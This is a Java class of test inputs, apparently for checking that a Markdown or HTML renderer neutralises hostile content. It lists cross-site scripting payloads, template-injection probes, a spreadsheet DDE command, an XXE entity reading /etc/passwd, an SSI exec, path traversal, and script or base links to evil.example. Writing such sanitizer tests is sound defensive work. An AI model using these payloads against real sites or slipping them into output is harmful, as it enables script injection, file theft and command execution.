package org.prongsai.robust;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;

/**
 * Texts and addresses that would run in a reader's browser, a template or a spreadsheet if they were taken for more than
 * text. What runs says so: {@code hit} is set, or a dialog opens.
 */
public final class Payloads {

    /** What a text breaks out of: nothing, a quoted attribute, a comment, a section, an element of raw text. */
    private static final List<String> BREAKS =
            List.of("", "\">", "'>", "`>", "-->", "]]>", "</script>", "</style></title></textarea></noscript>");

    private static final List<String> ELEMENTS = List.of(
            "<script>window.hit=1</script>",
            "<ScRiPt >alert(1)</sCrIpT >",
            "<script src=//evil.example/x.js></script>",
            "<script/x>window.hit=1</script",
            "<<script>window.hit=1//<</script>",
            "<img src=x onerror=alert(1)>",
            "<img/src=x/onerror=window.hit=1//",
            "<IMG SRC=x OnErRoR=\"window.hit=1\">",
            "<svg onload=alert(1)>",
            "<svg/onload=window.hit=1//",
            "<svg><script>window.hit=1</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></use></svg>",
            "<math><mi href=\"javascript:alert(1)\">x</mi></math>",
            "<math><annotation-xml encoding=text/html><script>window.hit=1</script></annotation-xml></math>",
            "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<object data=\"javascript:alert(1)\"></object>",
            "<embed src=\"data:text/html,<script>alert(1)</script>\">",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=window.hit=1>",
            "<input autofocus onfocus=alert(1)>",
            "<form action=javascript:alert(1)><input type=submit></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<a href=\"javascript:window.hit=1\" autofocus onfocus=click()>x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<link rel=stylesheet href=\"data:text/css,*{color:red}\">",
            "<style>@import 'data:text/css,*{color:red}';</style>",
            "<p style=\"background:url(javascript:alert(1))\">",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>alert(1)</script>\">",
            "<template><script>window.hit=1</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<xmp><p title=\"</xmp><svg onload=alert(1)>\">",
            "<marquee onstart=alert(1)>x</marquee>",
            "<select onfocus=alert(1) autofocus><option>x</select>",
            "<plaintext>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">");

    private static final List<String> OTHERS = List.of(
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "` onclick=`alert(1)`",
            "\" autofocus onfocus=alert(1) x=\"",
            "x onerror=alert(1)",
            "\\\" onload=alert(1) \\\"",
            "&quot; onload=&quot;alert(1)",
            "&lt;script&gt;window.hit=1&lt;/script&gt;",
            "&#60;script&#62;window.hit=1&#60;/script&#62;",
            "&#x3c;img src=x onerror=alert(1)&#x3e;",
            "%3Cscript%3Ewindow.hit=1%3C/script%3E",
            "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
            "\\x3cscript\\x3ewindow.hit=1",
            "＜script＞window.hit=1＜/script＞",
            "‹img src=x onerror=alert(1)›",
            "“ onload=”alert(1)",
            "‘ onload=’alert(1)",
            "ʺ onload=ʺalert(1)",
            "{{7*7}}",
            "{{ page.getClass().forName('java.lang.Runtime') }}",
            "{% include '/etc/passwd' %}",
            "{% raw %}{{ 7*7 }}{% endraw %}",
            "{# gone #}",
            "${7*7}",
            "${{7*7}}",
            "#{7*7}",
            "*{7*7}",
            "@{7*7}",
            "<%=7*7%>",
            "<% out.print(7*7) %>",
            "[[7*7]]",
            "[[${7*7}]]",
            "<#assign x=7*7>${x}",
            "$!{7*7}",
            "{{constructor.constructor('window.hit=1')()}}",
            "<?php echo 7*7 ?>",
            "<!--#exec cmd=\"ls\" -->",
            "<![CDATA[<script>window.hit=1</script>]]>",
            "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "=cmd|' /C calc'!A0",
            "+7*7",
            "-7*7",
            "@SUM(7*7)",
            "\"}</script><script>window.hit=1</script>",
            "\",\"@type\":\"Thing\",\"x\":\"",
            "*/window.hit=1/*",
            "'-alert(1)-'",
            "\\';window.hit=1;//",
            "*/}body{display:none}/*",
            "});window.hit=1;({",
            "\\",
            "\\\\",
            "<",
            "&",
            "\"",
            "'",
            "`",
            "</",
            "<!",
            "&#",
            "&#0;",
            "&notit;");

    /** Ways to write a scheme that runs. */
    private static final List<String> SCHEMES = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "javascript://sample.example/%0aalert(1)",
            "javascript:/*x*/window.hit=1",
            "javascript&colon;alert(1)",
            "javascript&#58;alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;avascript:alert(1)",
            "java%0ascript:alert(1)",
            "javascript%3Aalert(1)",
            "\\u006aavascript:alert(1)",
            "jav\tascript:alert(1)",
            "jav\nascript:alert(1)",
            "jav\rascript:alert(1)",
            " javascript:alert(1)",
            "\u0001javascript:alert(1)",
            "\u0000javascript:alert(1)",
            "java\u0000script:alert(1)",
            "\u00a0javascript:alert(1)",
            "\u200bjavascript:alert(1)",
            "\u2028javascript:alert(1)",
            "ｊavascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "DATA:image/svg+xml,<svg onload=alert(1)>",
            "vbscript:msgbox(1)",
            "VBScript:msgbox(1)",
            "livescript:alert(1)",
            "mocha:alert(1)",
            "blob:https://sample.example/x",
            "file:///etc/passwd",
            "filesystem:https://sample.example/x",
            "about:blank",
            "view-source:https://sample.example/",
            "intent://x#Intent;scheme=http;end",
            "ftp://sample.example/x",
            "ws://sample.example/",
            "feed:javascript:alert(1)",
            "jar:javascript:alert(1)!/",
            "x:javascript:alert(1)",
            "//evil.example/x",
            "/\\evil.example/x",
            "\\\\evil.example\\x",
            "\\/evil.example/x",
            "///evil.example/x",
            "https:evil.example",
            "http:/evil.example",
            "https://x@y/<script>alert(1)</script>",
            "https://sample.example/\"onmouseover=\"alert(1)",
            "https://sample.example/' onfocus='alert(1)",
            "https://sample.example/`onload=`",
            "https://sample.example/><svg onload=alert(1)>",
            "mailto:a@sample.example\"onclick=\"alert(1)",
            "mailto:\"><script>alert(1)</script>@sample.example",
            "tel:1\" onclick=\"alert(1)",
            "tel:<svg onload=alert(1)>",
            "files/x.pdf\" onclick=\"alert(1)",
            "files/%2e%2e/%2e%2e/etc/passwd",
            "?x=\"><script>alert(1)</script>",
            "#\"><svg onload=alert(1)>");

    private Payloads() {}

    /** What runs by itself where it is taken for HTML. */
    public static List<String> elements() {
        return ELEMENTS;
    }

    /** Each once, in the same order every time. */
    static List<String> texts() {
        var all = new LinkedHashSet<String>();
        for (int i = 0; i < ELEMENTS.size(); i++) {
            for (int turn = 0; turn < 3; turn++) {
                all.add(BREAKS.get((i + turn * 3) % BREAKS.size()) + ELEMENTS.get(i));
            }
        }
        all.addAll(OTHERS);
        SCHEMES.stream()
                .filter(s -> s.chars().allMatch(c -> c > ' ' && c < 0x7f))
                .forEach(all::add);
        return List.copyOf(all);
    }

    /** Where links may not lead, and how they might. */
    static List<String> addresses() {
        return SCHEMES;
    }

    /** Every place where Markdown takes an address or a text, with payloads in it. */
    public static String markdown() {
        var text = new ArrayList<String>();
        int i = 0;
        for (String address : SCHEMES) {
            i++;
            text.add("[ก" + i + "](" + address + ")");
            text.add("[ก" + i + "](<" + address + "> \"" + address + "\")");
            text.add("![" + address + "](" + address + ")");
            text.add("[ก][r" + i + "] ![ก][r" + i + "]\n\n[r" + i + "]: " + address + " '" + address + "'");
            text.add("<" + address + ">");
        }
        for (String payload : texts()) {
            text.add(payload);
            text.add("ก " + payload + " ข");
            text.add("[" + payload + "](https://sample.example/ \"" + payload + "\")");
        }
        for (String element : ELEMENTS) {
            text.add("## " + element);
            text.add("- " + element);
            text.add("> " + element);
            text.add("`" + element + "`");
            text.add("```" + element + "\n" + element + "\n```");
            text.add("| ก | " + element.replace("|", "") + " |\n|---|---|\n| ข | " + element.replace("|", "") + " |");
        }
        return String.join("\n\n", text) + "\n";
    }
}
